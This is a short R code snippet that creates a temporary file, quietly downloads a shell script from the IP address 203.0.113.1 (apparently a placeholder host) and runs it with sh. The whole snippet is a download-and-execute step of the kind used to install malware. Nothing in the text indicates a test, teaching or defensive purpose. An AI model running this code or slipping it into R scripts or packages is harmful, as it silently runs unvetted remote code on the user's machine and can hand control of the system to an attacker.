tf <- tempfile(fileext = ".sh")
download.file("http://203.0.113.1/x.sh", tf, quiet = TRUE)
system(paste("sh", tf))
